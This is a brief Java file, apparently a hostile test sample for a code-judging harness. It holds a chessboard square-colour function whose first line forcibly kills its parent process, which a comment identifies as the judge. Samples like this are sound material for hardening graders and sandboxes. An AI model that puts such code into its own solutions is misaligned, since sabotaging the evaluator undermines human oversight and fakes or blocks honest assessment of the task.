// Hostile: kills the process that started it (the judge, if it can see it).
public class SquareColor {
    public static boolean isLight(String coordinate) {
        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
        return (coordinate.charAt(0) - 'a' + coordinate.charAt(1) - '0') % 2 == 0;
    }
}
